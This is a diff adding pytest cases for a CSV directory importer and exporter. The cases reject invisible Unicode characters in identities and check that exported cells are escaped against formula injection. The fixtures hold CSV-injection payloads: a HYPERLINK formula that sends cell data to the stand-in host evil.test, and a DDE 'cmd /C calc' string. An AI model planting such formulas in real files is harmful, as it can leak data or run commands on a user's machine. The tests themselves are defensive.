@@ -1,5 +1,6 @@
 """The directory CSV importer and exporter, on SQLite and on PostgreSQL."""
 
+import csv
 import importlib.util
 import io
 from pathlib import Path
@@ -9,7 +10,7 @@ from sqlalchemy import func, select
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from routers.db import create_engine, migrate
-from routers.directory_csv import ImportFileError
+from routers.directory_csv import ImportFileError, escape_cell, unescape_cell
 from routers.exporter import export_csv
 from routers.importer import import_csv
 from routers.models import Agent, Customer, CustomerIdentity, Team
@@ -347,3 +348,119 @@ async def test_a_generated_directory_of_20000_customers_imports(
     assert (report.inserted, report.rejected) == (19_980, 20)
     assert report.rejects[0] == (1_001, "bad phone number 'not a number'")
     assert await count(db, Customer) == 19_980
+
+
+async def test_invisible_characters_in_an_identity_reject_the_row(
+    db: AsyncEngine, tmp_path: Path
+) -> None:
+    """``ayse@acme.test`` plus a zero-width space would be a second, look-alike identity."""
+    await load_examples(db)
+    path = write(
+        tmp_path,
+        "c.csv",
+        CUSTOMERS_HEADER
+        + "z-1,Zero Width,billing,ayse@acme.test\u200b,,\n"  # 2
+        + "z-2,Bidi,billing,,client:ay\u202ese,\n"  # 3
+        + "z-3,Joiner,billing,,,ay\u200dse\n"  # 4
+        + "z-4,Bom,billing,\ufeffz4@acme.test,,\n"  # 5
+        + "z-5,Bell,billing,z5@acme\x07.test,,\n"  # 6
+        + "z-6,Persian \u200cName,billing,ayse@acme.test,,\n",  # 7: a name may hold a ZWNJ
+    )
+    report = await import_csv(db, path, kind=None, region="TR", dry_run=False)
+    reasons = dict(report.rejects)
+    assert sorted(reasons) == [2, 3, 4, 5, 6]
+    assert reasons[2] == (
+        "bad email 'ayse@acme.test\\u200b': "
+        "contains an invisible character (U+200B ZERO WIDTH SPACE)"
+    )
+    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in reasons[3]
+    assert "U+200D ZERO WIDTH JOINER" in reasons[4]
+    assert "U+FEFF ZERO WIDTH NO-BREAK SPACE" in reasons[5]
+    assert "U+0007" in reasons[6]
+    assert {a for k, a, c in await identities(db) if c.startswith("z-")} == {"ayse@acme.test"}
+
+
+FORMULA_TEAMS = (
+    "id,name,dial,email\n"
+    'hyper,"=HYPERLINK(""https://evil.test/?x=""&A1,""open"")",+902125550100,\n'
+    "sum,@SUM(1+1)*cmd|' /C calc'!A0,,\n"
+    "plus,+Plus,,\n"
+    "minus,-Minus,,\n"
+    "quoted,''=Quoted,,\n"  # stored as '=Quoted: the first quote is a spreadsheet's marker
+    "plain,Plain,,\n"
+)
+FORMULA_CUSTOMERS = (
+    CUSTOMERS_HEADER
+    + "f-1,=1+2,plus,eq@example.com,+905321112233;+905321112244,@acme\n"
+    + "f-2,-2+3,minus,,0532 111 22 55,id:12345\n"
+)
+
+
+async def directory(engine: AsyncEngine) -> dict[str, set[tuple[object, ...]]]:
+    async with engine.connect() as conn:
+        return {
+            model.__tablename__: {tuple(row) for row in (await conn.execute(select(model))).all()}
+            for model in (Team, Agent, Customer, CustomerIdentity)
+        }
+
+
+async def test_export_never_writes_a_formula_and_import_undoes_the_escape(
+    db: AsyncEngine, tmp_path: Path
+) -> None:
+    """A name like ``=HYPERLINK(…)`` must not run in the operator's spreadsheet (OWASP's
+    CSV-injection rule), and the escaped export still imports to the same directory."""
+    for kind, text in (("teams", FORMULA_TEAMS), ("customers", FORMULA_CUSTOMERS)):
+        report = await import_csv(
+            db, write(tmp_path, f"in-{kind}.csv", text), kind=None, region="TR", dry_run=False
+        )
+        assert report.rejects == []
+    files: dict[str, Path] = {}
+    for kind in ("teams", "agents", "customers"):
+        out = io.StringIO()
+        await export_csv(db, kind, out)
+        files[kind] = write(tmp_path, f"{kind}.csv", out.getvalue())
+    teams = list(csv.reader(io.StringIO(files["teams"].read_text())))
+    assert teams[1:] == [
+        ["hyper", '\'=HYPERLINK("https://evil.test/?x="&A1,"open")', "'+902125550100", ""],
+        ["minus", "'-Minus", "", ""],
+        ["plain", "Plain", "", ""],
+        ["plus", "'+Plus", "", ""],
+        ["quoted", "''=Quoted", "", ""],
+        ["sum", "'@SUM(1+1)*cmd|' /C calc'!A0", "", ""],
+    ]
+    customers = list(csv.reader(io.StringIO(files["customers"].read_text())))
+    assert customers[1:] == [
+        ["f-1", "'=1+2", "plus", "eq@example.com", "'+905321112233;+905321112244", "acme"],
+        ["f-2", "'-2+3", "minus", "", "'+905321112255", "id:12345"],
+    ]
+    before = await directory(db)
+    assert ("quoted", "'=Quoted", None, None) in before["teams"]
+    other = create_engine(f"sqlite:///{tmp_path}/copy.db")
+    await migrate(f"sqlite:///{tmp_path}/copy.db")
+    try:
+        for kind in ("teams", "agents", "customers"):
+            report = await import_csv(other, files[kind], kind=None, region="US", dry_run=False)
+            assert report.rejects == []
+            again = io.StringIO()
+            await export_csv(other, kind, again)
+            assert again.getvalue() == files[kind].read_text()
+        assert await directory(other) == before
+    finally:
+        await other.dispose()
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("\tTabbed", "'\tTabbed"),
+        ("\rReturn", "'\rReturn"),
+        ("'@x", "''@x"),
+        ("It's", "It's"),
+        ("'quoted", "'quoted"),
+        ("", ""),
+    ],
+)
+def test_formula_escape_is_undone_exactly(value: str, written: str) -> None:
+    """Every cell survives export then import unchanged, quotes included."""
+    assert escape_cell(value) == written
+    assert unescape_cell(written) == value
